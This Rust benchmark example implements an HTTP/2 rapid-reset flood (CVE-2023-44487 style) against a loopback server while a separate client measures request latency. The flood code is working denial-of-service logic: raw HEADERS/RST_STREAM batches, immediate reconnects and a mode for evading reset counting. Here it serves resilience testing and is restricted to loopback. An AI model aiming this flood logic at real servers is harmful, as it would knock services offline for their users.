//! `cargo run --release --example h2flood -- --target 127.0.0.1:PORT`: an HTTP/2 rapid-reset
//! flood (CVE-2023-44487 style) against a server on loopback, while a well-behaved HTTP/1.1
//! client on other connections measures its latency. Used by `benches/flood.sh`.
//!
//! - Flood: up to `--conns` connections from `--flood-source` (default 127.0.0.1), each sending
//!   the h2c preface and then HEADERS (GET /, END_STREAM) + RST_STREAM(CANCEL) pairs in batches
//!   as fast as the socket takes them, written as raw frames because the h2 crate's client will
//!   not reset streams this fast. A connection that is closed or sent GOAWAY is re-opened at
//!   once, as an attacker would.
//! - Normal client: from `--normal-source` (default 127.0.0.2, so that a per-IP penalty for
//!   the flooder cannot hit it; all of 127.0.0.0/8 is loopback), one GET at a time,
//!   `--interval` apart, on a keep-alive connection and (on a second thread) on a fresh
//!   connection per request. Latency covers connect (fresh), request and the whole body.
//! - Phases: `--before` seconds without the flood, `--duration` seconds of flood, `--after`
//!   seconds without; p50/p99/max and errors are printed per phase and client, and one
//!   `RESULT` line each for scripts.
//!
//! Roles: no subcommand runs all of it in one process; `flood`, `client` and `backend` run one
//! part each, so that a script can give the measuring client and the backend a real-time
//! priority on the load CPU and the flood none (benches/flood.sh).
//!
//! Everything is bounded: only loopback targets and sources are accepted, durations are capped
//! at 60 s, connections at 1000, and the flood stops after `--max-streams` streams.
//! `--backend ADDR` also runs a minimal HTTP/1.1 backend ("ok") on that address.

use std::net::{IpAddr, SocketAddr};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering::Relaxed};
use std::sync::Arc;
use std::time::{Duration, Instant};

use bytes::Bytes;
use http_body_util::{BodyExt, Empty, Full};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};

struct Args {
    target: SocketAddr,
    conns: usize,
    duration: Duration,
    before: Duration,
    after: Duration,
    interval: Duration,
    flood_source: IpAddr,
    normal_source: IpAddr,
    max_streams: u64,
    batch: usize,
    backend: Option<SocketAddr>,
    timeout: Duration,
    /// Send each batch's HEADERS and its RST_STREAMs in two writes with a yield between, so
    /// the server tends to accept a stream before its reset arrives (h2 only counts resets of
    /// streams not yet accepted).
    split: bool,
    /// Print each normal request slower than this (ms) with its start time, to stderr.
    slow_ms: Option<u64>,
    /// The normal client's request path.
    path: String,
}

fn usage() -> ! {
    eprintln!(
        "usage: h2flood [flood|client|backend] --target 127.0.0.1:PORT [--conns 200] [--duration 3] [--before 1] \
         [--after 1] [--interval-ms 10] [--flood-source 127.0.0.1] [--normal-source 127.0.0.2] \
         [--max-streams 100000000] [--batch 64] [--split 0|1] [--slow-ms N] [--path /] [--timeout 5] [--backend 127.0.0.1:PORT]"
    );
    std::process::exit(2)
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Role {
    All,
    Flood,
    Client,
    Backend,
}

fn parse_args() -> (Role, Args) {
    let mut a = Args {
        target: SocketAddr::from(([127, 0, 0, 1], 8080)),
        conns: 200,
        duration: Duration::from_secs(3),
        before: Duration::from_secs(1),
        after: Duration::from_secs(1),
        interval: Duration::from_millis(10),
        flood_source: IpAddr::from([127, 0, 0, 1]),
        normal_source: IpAddr::from([127, 0, 0, 2]),
        max_streams: 100_000_000,
        batch: 64,
        backend: None,
        timeout: Duration::from_secs(5),
        split: false,
        slow_ms: None,
        path: "/".to_owned(),
    };
    let mut target_set = false;
    let mut it = std::env::args().skip(1).peekable();
    let role = match it.peek().map(String::as_str) {
        Some("flood") => Role::Flood,
        Some("client") => Role::Client,
        Some("backend") => Role::Backend,
        _ => Role::All,
    };
    if role != Role::All {
        it.next();
    }
    while let Some(flag) = it.next() {
        let Some(v) = it.next() else { usage() };
        let secs = |v: &str| {
            v.parse::<f64>()
                .ok()
                .filter(|s| (0.0..=60.0).contains(s))
                .map(Duration::from_secs_f64)
                .unwrap_or_else(|| usage())
        };
        match flag.as_str() {
            "--target" => {
                a.target = v.parse().unwrap_or_else(|_| usage());
                target_set = true;
            }
            "--conns" => a.conns = v.parse().unwrap_or_else(|_| usage()),
            "--duration" => a.duration = secs(&v),
            "--before" => a.before = secs(&v),
            "--after" => a.after = secs(&v),
            "--timeout" => a.timeout = secs(&v),
            "--interval-ms" => a.interval = Duration::from_millis(v.parse().unwrap_or(10)),
            "--flood-source" => a.flood_source = v.parse().unwrap_or_else(|_| usage()),
            "--normal-source" => a.normal_source = v.parse().unwrap_or_else(|_| usage()),
            "--max-streams" => a.max_streams = v.parse().unwrap_or_else(|_| usage()),
            "--batch" => a.batch = v.parse().unwrap_or_else(|_| usage()),
            "--path" => a.path = v,
            "--slow-ms" => a.slow_ms = v.parse().ok(),
            "--split" => a.split = v == "1" || v == "true",
            "--backend" => a.backend = Some(v.parse().unwrap_or_else(|_| usage())),
            _ => usage(),
        }
    }
    if !target_set && role != Role::Backend {
        usage()
    }
    // Loopback only: this tool must never send a flood anywhere else.
    let loopback = [
        a.target.ip(),
        a.flood_source,
        a.normal_source,
        a.backend.map_or(a.target.ip(), |b| b.ip()),
    ];
    if !loopback.iter().all(|ip| ip.is_loopback()) {
        eprintln!("h2flood: only loopback addresses (127.0.0.0/8, ::1) are allowed");
        std::process::exit(2)
    }
    a.conns = a.conns.clamp(1, 1000);
    a.batch = a.batch.clamp(1, 4096);
    (role, a)
}

// ---------------------------------------------------------------------------------------------
// The flood

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

fn frame_head(out: &mut Vec<u8>, len: usize, kind: u8, flags: u8, stream: u32) {
    out.extend_from_slice(&(len as u32).to_be_bytes()[1..]);
    out.push(kind);
    out.push(flags);
    out.extend_from_slice(&(stream & 0x7fff_ffff).to_be_bytes());
}

/// HPACK block for `GET http://AUTHORITY/`: indexed :method GET, :scheme http, :path /, and a
/// literal :authority (not indexed, so every block is the same bytes).
fn header_block(authority: &str) -> Vec<u8> {
    let mut b = vec![0x82, 0x86, 0x84, 0x01, authority.len() as u8];
    b.extend_from_slice(authority.as_bytes());
    b
}

#[derive(Default)]
struct FloodStats {
    streams: AtomicU64,
    connects: AtomicU64,
    connect_errors: AtomicU64,
    goaways: AtomicU64,
    closed: AtomicU64,
}

async fn connect_from(source: IpAddr, target: SocketAddr) -> std::io::Result<TcpStream> {
    let sock = if target.is_ipv4() {
        TcpSocket::new_v4()?
    } else {
        TcpSocket::new_v6()?
    };
    sock.bind(SocketAddr::new(source, 0))?;
    let s = sock.connect(target).await?;
    s.set_nodelay(true)?;
    Ok(s)
}

/// One flood connection slot: connect, flood until the server closes or sends GOAWAY, repeat
/// until `stop`.
async fn flood_slot(args: Arc<Args>, stats: Arc<FloodStats>, stop: Arc<AtomicBool>) {
    let block = header_block(&args.target.to_string());
    while !stop.load(Relaxed) {
        let stream = match connect_from(args.flood_source, args.target).await {
            Ok(s) => s,
            Err(_) => {
                stats.connect_errors.fetch_add(1, Relaxed);
                // A refused or reset connect: try again soon, without spinning.
                tokio::time::sleep(Duration::from_millis(1)).await;
                continue;
            }
        };
        stats.connects.fetch_add(1, Relaxed);
        let (mut rd, mut wr) = stream.into_split();
        let need_ack = Arc::new(AtomicU64::new(0));
        let gone = Arc::new(AtomicBool::new(false));
        // Reader: answers SETTINGS with an ACK (through the writer), notices GOAWAY and EOF,
        // and keeps the server's writes from blocking.
        let reader = {
            let need_ack = Arc::clone(&need_ack);
            let gone = Arc::clone(&gone);
            let stats = Arc::clone(&stats);
            tokio::spawn(async move {
                let mut buf = vec![0u8; 64 * 1024];
                let mut pending: Vec<u8> = Vec::new();
                loop {
                    let n = match rd.read(&mut buf).await {
                        Ok(0) | Err(_) => break,
                        Ok(n) => n,
                    };
                    pending.extend_from_slice(&buf[..n]);
                    let mut at = 0;
                    while pending.len() - at >= 9 {
                        let len =
                            u32::from_be_bytes([0, pending[at], pending[at + 1], pending[at + 2]])
                                as usize;
                        if pending.len() - at < 9 + len {
                            break;
                        }
                        let (kind, flags) = (pending[at + 3], pending[at + 4]);
                        if kind == 0x4 && flags & 0x1 == 0 {
                            need_ack.fetch_add(1, Relaxed);
                        }
                        if kind == 0x7 {
                            stats.goaways.fetch_add(1, Relaxed);
                            gone.store(true, Relaxed);
                        }
                        at += 9 + len;
                    }
                    pending.drain(..at);
                }
                stats.closed.fetch_add(1, Relaxed);
                gone.store(true, Relaxed);
            })
        };
        let mut out = Vec::with_capacity(args.batch * (block.len() + 30) + 64);
        out.extend_from_slice(PREFACE);
        frame_head(&mut out, 0, 0x4, 0, 0); // empty SETTINGS
        let mut id: u32 = 1;
        let mut acked = 0;
        while !stop.load(Relaxed) && !gone.load(Relaxed) && id < 0x7fff_0000 {
            let want = need_ack.load(Relaxed);
            while acked < want {
                frame_head(&mut out, 0, 0x4, 0x1, 0);
                acked += 1;
            }
            let first = id;
            for _ in 0..args.batch {
                frame_head(&mut out, block.len(), 0x1, 0x5, id);
                out.extend_from_slice(&block);
                if !args.split {
                    frame_head(&mut out, 4, 0x3, 0, id);
                    out.extend_from_slice(&0x8u32.to_be_bytes()); // CANCEL
                }
                id += 2;
            }
            if args.split {
                if wr.write_all(&out).await.is_err() {
                    break;
                }
                out.clear();
                tokio::task::yield_now().await;
                for sid in (first..id).step_by(2) {
                    frame_head(&mut out, 4, 0x3, 0, sid);
                    out.extend_from_slice(&0x8u32.to_be_bytes());
                }
            }
            if wr.write_all(&out).await.is_err() {
                break;
            }
            out.clear();
            let n = stats.streams.fetch_add(args.batch as u64, Relaxed);
            if n >= args.max_streams {
                stop.store(true, Relaxed);
            }
        }
        drop(wr);
        reader.abort();
    }
}

// ---------------------------------------------------------------------------------------------
// The normal client

#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum Phase {
    Before = 0,
    Flood = 1,
    After = 2,
}

const PHASES: [Phase; 3] = [Phase::Before, Phase::Flood, Phase::After];

struct Series {
    ok: [Vec<Duration>; 3],
    errors: [u64; 3],
    statuses: [u64; 3],
}

fn phase_at(t0: Instant, args: &Args, at: Instant) -> Option<Phase> {
    let e = at.saturating_duration_since(t0);
    if e < args.before {
        Some(Phase::Before)
    } else if e < args.before + args.duration {
        Some(Phase::Flood)
    } else if e < args.before + args.duration + args.after {
        Some(Phase::After)
    } else {
        None
    }
}

type Sender = hyper::client::conn::http1::SendRequest<Empty<Bytes>>;

async fn h1_connect(args: &Args) -> Result<Sender, Box<dyn std::error::Error + Send + Sync>> {
    let s = connect_from(args.normal_source, args.target).await?;
    let (send, conn) =
        hyper::client::conn::http1::handshake(hyper_util::rt::TokioIo::new(s)).await?;
    tokio::spawn(async move {
        let _ = conn.await;
    });
    Ok(send)
}

async fn one_request(
    args: &Args,
    send: &mut Sender,
) -> Result<u16, Box<dyn std::error::Error + Send + Sync>> {
    send.ready().await?;
    let req = http::Request::get(args.path.as_str())
        .header(http::header::HOST, args.target.to_string())
        .body(Empty::new())?;
    let resp = send.send_request(req).await?;
    let status = resp.status().as_u16();
    resp.into_body().collect().await?;
    Ok(status)
}

/// One request at a time, `interval` apart, until the last phase ends.
async fn normal_client(args: Arc<Args>, t0: Instant, fresh: bool) -> Series {
    let mut s = Series {
        ok: [Vec::new(), Vec::new(), Vec::new()],
        errors: [0; 3],
        statuses: [0; 3],
    };
    let mut keep: Option<Sender> = None;
    loop {
        let start = Instant::now();
        let Some(phase) = phase_at(t0, &args, start) else {
            break;
        };
        let p = phase as usize;
        let attempt = async {
            let mut send = match keep.take() {
                Some(k) if !fresh => k,
                _ => h1_connect(&args).await?,
            };
            let status = one_request(&args, &mut send).await?;
            if !fresh {
                keep = Some(send);
            }
            Ok::<u16, Box<dyn std::error::Error + Send + Sync>>(status)
        };
        let r = tokio::time::timeout(args.timeout, attempt).await;
        if let Some(slow) = args.slow_ms {
            let took = start.elapsed();
            if took >= Duration::from_millis(slow) {
                eprintln!(
                    "SLOW client={} at_s={:.3} ms={:.1} ok={}",
                    if fresh { "fresh" } else { "keepalive" },
                    start.duration_since(t0).as_secs_f64(),
                    took.as_secs_f64() * 1000.0,
                    matches!(r, Ok(Ok(_)))
                );
            }
        }
        match r {
            Ok(Ok(200)) => s.ok[p].push(start.elapsed()),
            Ok(Ok(_)) => {
                s.statuses[p] += 1;
                s.ok[p].push(start.elapsed());
            }
            Ok(Err(_)) | Err(_) => s.errors[p] += 1,
        }
        tokio::time::sleep(args.interval).await;
    }
    s
}

fn pct(sorted: &[Duration], q: f64) -> f64 {
    if sorted.is_empty() {
        return f64::NAN;
    }
    let i = ((sorted.len() as f64 * q).ceil() as usize).clamp(1, sorted.len()) - 1;
    sorted[i].as_secs_f64() * 1000.0
}

fn report(name: &str, s: &mut Series) {
    for ph in PHASES {
        let p = ph as usize;
        let v = &mut s.ok[p];
        v.sort();
        let max = v.last().map_or(f64::NAN, |d| d.as_secs_f64() * 1000.0);
        println!(
            "RESULT client={name} phase={:?} n={} p50_ms={:.2} p99_ms={:.2} max_ms={:.2} errors={} non200={}",
            ph,
            v.len(),
            pct(v, 0.50),
            pct(v, 0.99),
            max,
            s.errors[p],
            s.statuses[p],
        );
    }
}

// ---------------------------------------------------------------------------------------------
// Optional backend

fn run_backend(addr: SocketAddr) -> std::io::Result<()> {
    let std_listener = std::net::TcpListener::bind(addr)?;
    std_listener.set_nonblocking(true)?;
    std::thread::spawn(move || {
        let Ok(rt) = tokio::runtime::Builder::new_current_thread()
            .enable_all()
            .build()
        else {
            return;
        };
        rt.block_on(async move {
            let Ok(listener) = tokio::net::TcpListener::from_std(std_listener) else {
                return;
            };
            loop {
                let Ok((stream, _)) = listener.accept().await else {
                    continue;
                };
                tokio::spawn(async move {
                    let svc = hyper::service::service_fn(|_req| async {
                        Ok::<_, std::convert::Infallible>(hyper::Response::new(Full::new(
                            Bytes::from_static(b"ok\n"),
                        )))
                    });
                    let _ = hyper::server::conn::http1::Builder::new()
                        .serve_connection(hyper_util::rt::TokioIo::new(stream), svc)
                        .await;
                });
            }
        });
    });
    Ok(())
}

fn main() {
    let (role, args) = parse_args();
    let args = Arc::new(args);
    match role {
        Role::Backend => {
            let Some(b) = args.backend else { usage() };
            if let Err(e) = run_backend(b) {
                eprintln!("h2flood: backend on {b}: {e}");
                std::process::exit(1);
            }
            // Serves until the script that started it stops it (by PID), or for at most
            // ten minutes.
            std::thread::sleep(Duration::from_secs(600));
        }
        Role::All => {
            if let Some(b) = args.backend {
                if let Err(e) = run_backend(b) {
                    eprintln!("h2flood: backend on {b}: {e}");
                    std::process::exit(1);
                }
            }
            let clients = start_clients(&args);
            run_flood(&args);
            report_clients(clients);
        }
        Role::Flood => run_flood(&args),
        Role::Client => report_clients(start_clients(&args)),
    }
}

type ClientThread = std::thread::JoinHandle<Option<Series>>;

/// Each client on its own thread and runtime, so that the flood's tasks never delay the
/// measurement itself (beyond the OS scheduler; benches/flood.sh also runs the clients in a
/// process of their own at a real-time priority).
fn start_clients(args: &Arc<Args>) -> Vec<(&'static str, ClientThread)> {
    let t0 = Instant::now();
    [("keepalive", false), ("fresh", true)]
        .into_iter()
        .map(|(name, fresh)| {
            let args = Arc::clone(args);
            let t = std::thread::spawn(move || {
                let rt = tokio::runtime::Builder::new_current_thread()
                    .enable_all()
                    .build()
                    .ok()?;
                Some(rt.block_on(normal_client(args, t0, fresh)))
            });
            (name, t)
        })
        .collect()
}

fn report_clients(clients: Vec<(&'static str, ClientThread)>) {
    for (name, c) in clients {
        match c.join() {
            Ok(Some(mut s)) => report(name, &mut s),
            _ => eprintln!("h2flood: the {name} client failed to run"),
        }
    }
}

fn run_flood(args: &Arc<Args>) {
    let stats = Arc::new(FloodStats::default());
    let Ok(rt) = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
    else {
        eprintln!("h2flood: cannot start a runtime");
        return;
    };
    rt.block_on(async {
        tokio::time::sleep(args.before).await;
        let stop = Arc::new(AtomicBool::new(false));
        let tasks: Vec<_> = (0..args.conns)
            .map(|_| {
                tokio::spawn(flood_slot(
                    Arc::clone(args),
                    Arc::clone(&stats),
                    Arc::clone(&stop),
                ))
            })
            .collect();
        tokio::time::sleep(args.duration).await;
        stop.store(true, Relaxed);
        // A slot blocked in a write to a server that stopped reading ends here.
        for t in &tasks {
            t.abort();
        }
        for t in tasks {
            let _ = t.await;
        }
    });
    println!(
        "FLOOD conns={} duration_s={:.1} batch={} streams={} connects={} connect_errors={} goaways={} closed_by_server={}",
        args.conns,
        args.duration.as_secs_f64(),
        args.batch,
        stats.streams.load(Relaxed),
        stats.connects.load(Relaxed),
        stats.connect_errors.load(Relaxed),
        stats.goaways.load(Relaxed),
        stats.closed.load(Relaxed),
    );
}
